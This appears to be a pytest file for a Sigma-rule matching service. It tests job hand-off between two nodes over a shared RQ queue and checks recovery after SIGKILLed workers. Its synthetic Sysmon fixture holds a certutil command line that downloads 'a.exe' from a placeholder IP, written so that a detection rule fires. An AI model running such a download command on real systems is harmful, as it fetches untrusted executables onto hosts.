"""Two web nodes and their task workers on one PostgreSQL and one Redis queue (RQ), sharing one upload storage.

Node A is gunicorn alone; node B is gunicorn with an RQ worker beside it (`manage.py rqworker`), each with its
own port and local scratch folders (TMPDIR, CATALOG_EXPORT_DIR); only the upload storage (CATALOG_MATCH_JOB_DIR,
in production NFS or S3 through django-storages) and the queue (CATALOG_TASKS_BACKEND=rq, Redis db
CATALOG_TWO_NODE_QUEUE_REDIS_DB) are shared. An EVTX uploaded to node A is matched by node B's worker and its
results are read from node B. Then a worker is killed with SIGKILL in the middle of a job (its work-horse, the
process that runs the job; then a whole worker, work-horse included): the API reports the job failed and its
upload is gone from the storage. Skipped when PostgreSQL or Redis does not answer locally; under CI=true that
is a failure (like tests/test_h10_two_nodes.py).
"""

import json
import os
import signal
import time
import urllib.error
import urllib.request
from contextlib import ExitStack
from pathlib import Path

import pytest

from benchmarks.site import build_database, serve
from tests.constants import CORPUS, EXAMPLES
from tests.two_nodes import fresh_database, redis_answers, unreachable

# It uses PostgreSQL and Redis whatever the run's database: scripts/test.sh runs it in the PostgreSQL pass.
pytestmark = pytest.mark.postgresql_only

REDIS_DB = int(os.environ.get("CATALOG_TWO_NODE_QUEUE_REDIS_DB", "12"))
REDIS_URL = f"redis://127.0.0.1:6379/{REDIS_DB}"
REDSUN = CORPUS / "rules-emerging-threats/2026/Exploits/RedSun"
REDSUN_RULE = REDSUN / "pipe_created_win_exploit_redsun_named_pipe.yml"
REDSUN_EVTX = (
    CORPUS / "regression_data/rules-emerging-threats/2026/Exploits/RedSun/pipe_created_win_exploit_redsun_named_pipe"
)
# A job that takes seconds: many events, each matched against every rule (the examples' certutil rule fires).
SLOW_EVENTS = 100_000
HIT = {
    "EventID": 1,
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe",
}
WAIT_SECONDS = 300  # any wait here is bounded; the figures are printed, not asserted
# RQ's worker with a heartbeat of seconds rather than 90 (tests/rq_workers.py): a killed worker's job expires sooner.
QUICK_HEARTBEAT = ("--worker-class", "tests.rq_workers.QuickHeartbeatWorker")


@pytest.fixture(scope="module")
def database_url():
    if not REDSUN_EVTX.is_dir():
        unreachable(f"needs the SigmaHQ snapshot's regression data ({REDSUN_EVTX})")
    url = fresh_database("_queue")  # beside the run's own database
    if not redis_answers(REDIS_DB):
        unreachable("needs Redis at 127.0.0.1:6379")
    build_database(url, [str(EXAMPLES), str(REDSUN_RULE)], source="examples")
    return url


@pytest.fixture
def nodes(database_url, tmp_path):
    """Node settings: a shared queue and upload folder, each node's own scratch folders."""
    shared = tmp_path / "shared-uploads"

    def node_env(name: str) -> dict:
        scratch = tmp_path / name
        (scratch / "tmp").mkdir(parents=True)
        return {
            "CATALOG_TASKS_BACKEND": "rq",
            "CATALOG_TASKS_REDIS_URL": REDIS_URL,
            "CATALOG_MATCH_JOB_DIR": str(shared),
            "TMPDIR": str(scratch / "tmp"),
            "CATALOG_EXPORT_DIR": str(scratch / "exports"),
            "CATALOG_RATE_ANON": "100000/minute",  # the test polls
            "CATALOG_RATE_MATCH": "100000/minute",
        }

    return database_url, shared, node_env


def request(url: str, body: bytes | None = None, headers: dict | None = None) -> tuple[int, dict]:
    req = urllib.request.Request(url, data=body, headers={"Host": "localhost", **(headers or {})})
    try:
        with urllib.request.urlopen(req, timeout=60) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, {"error": error.read().decode(errors="replace")[:2000]}


def upload(node: str, name: str, data: bytes) -> dict:
    boundary = "queue-test-" + os.urandom(8).hex()
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    status, answer = request(
        node + "/api/match/files/", body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    )
    assert status == 202, answer
    return answer


def job(node: str, token: str) -> dict:
    status, answer = request(f"{node}/api/match/jobs/{token}/")
    assert status == 200, answer
    return answer


def wait_for(node: str, token: str, until) -> dict:
    deadline = time.monotonic() + WAIT_SECONDS
    while time.monotonic() < deadline:
        answer = job(node, token)
        if until(answer):
            return answer
        time.sleep(0.2)
    raise AssertionError(f"job {token} still {answer['status']} after {WAIT_SECONDS} s: {answer}")


def slow_file() -> bytes:
    return "\n".join(json.dumps({**HIT, "EventRecordID": n}) for n in range(SLOW_EVENTS)).encode()


def test_an_upload_to_one_node_is_matched_by_another_nodes_worker(nodes):
    database_url, shared, node_env = nodes
    evtx = next(REDSUN_EVTX.glob("*.evtx"))
    with ExitStack() as stack:
        node_a = stack.enter_context(serve(database_url, workers=1, env=node_env("a"), task_worker=False))
        node_b = stack.enter_context(serve(database_url, workers=1, env=node_env("b")))
        worker_b = serve.last_worker_pid
        started = time.monotonic()
        token = upload(node_a, evtx.name, evtx.read_bytes())["job"]
        answer = wait_for(node_b, token, lambda a: a["status"] in ("done", "failed"))
        print(f"\nEVTX uploaded to node A, matched by node B's worker, read from B: {time.monotonic() - started:.2f} s")
        assert answer["status"] == "done", answer
        assert rq_worker_pids(database_url, token) == [worker_b]  # the worker beside node B ran it
    assert answer["format"] == "evtx" and answer["results"]["events"] == 1
    assert "RedSun" in json.dumps(answer["results"])  # the RedSun rule fired on the file's one event
    assert list(shared.iterdir()) == []  # the upload was deleted by the worker on the other node


def rq_worker_pids(database_url: str, token: str, running: bool = False) -> list[int]:
    """The pids of the (live) RQ workers that ran the job's task (`running`: that runs it), as Redis records them."""
    import psycopg
    import redis
    from rq.job import Job
    from rq.worker import Worker

    with psycopg.connect(database_url) as conn:
        task_id = conn.execute("SELECT task_id FROM catalog_matchjob WHERE token = %s", (token,)).fetchone()[0]
    connection = redis.Redis.from_url(REDIS_URL)
    rq_job = Job.fetch(task_id, connection=connection)
    names = [rq_job.worker_name] if running else [result.worker_name for result in rq_job.results()]
    return [
        Worker.find_by_key(Worker.redis_worker_namespace_prefix + name, connection=connection).pid for name in names
    ]


def running_job(database_url: str, token: str):
    """The RQ worker (its pid) running the job's task, and the pid of its work-horse (the forked process that
    runs the job)."""
    pid = rq_worker_pids(database_url, token, running=True)[0]
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    assert len(children) == 1, children
    return pid, int(children[0])


def test_a_job_whose_worker_is_killed_ends_failed_and_its_upload_is_removed(nodes):
    database_url, shared, node_env = nodes
    with ExitStack() as stack:
        node_a = stack.enter_context(serve(database_url, workers=1, env=node_env("a"), worker_options=QUICK_HEARTBEAT))
        workers = {serve.last_worker_pid: "a"}
        node_b = stack.enter_context(serve(database_url, workers=1, env=node_env("b"), worker_options=QUICK_HEARTBEAT))
        workers[serve.last_worker_pid] = "b"

        # 1. The work-horse dies (kill -9 of the process running the job): its worker sees it at once.
        token = upload(node_a, "slow.jsonl", slow_file())["job"]
        wait_for(node_b, token, lambda a: a["status"] == "running" and a["events_done"] > 0)
        assert [p.name for p in shared.iterdir()] == [f"{token}.upload"]
        worker, horse = running_job(database_url, token)
        assert worker in workers
        os.kill(horse, signal.SIGKILL)
        killed = time.monotonic()
        answer = wait_for(node_b, token, lambda a: a["status"] != "running")
        print(
            f"\nwork-horse killed: the API reports the job {answer['status']} after {time.monotonic() - killed:.2f} s"
        )
        assert answer["status"] == "failed" and "Work-horse terminated unexpectedly" in answer["message"], answer
        assert list(shared.iterdir()) == []

        # 2. A whole worker dies (kill -9 of it and its work-horse, as when its machine is lost): RQ's heartbeat
        # on the job expires (in seconds with QUICK_HEARTBEAT, ~90 s with RQ's defaults) and the job pages fail
        # it from RQ's abandoned-job cleanup (catalog/platform/rq_abandoned.py).
        token = upload(node_b, "slow.jsonl", slow_file())["job"]
        wait_for(node_a, token, lambda a: a["status"] == "running" and a["events_done"] > 0)
        worker, horse = running_job(database_url, token)
        os.kill(worker, signal.SIGKILL)  # first, so that it cannot see its work-horse die
        os.kill(horse, signal.SIGKILL)  # (RQ puts it in a process group of its own)
        killed = time.monotonic()
        answer = wait_for(node_a, token, lambda a: a["status"] != "running")
        print(
            f"whole worker killed: the API reports the job {answer['status']} after {time.monotonic() - killed:.2f} s"
        )
        assert answer["status"] == "failed" and "AbandonedJobError" in answer["message"], answer
        assert list(shared.iterdir()) == []
        assert job(node_b, token)["status"] == "failed"  # both nodes say so
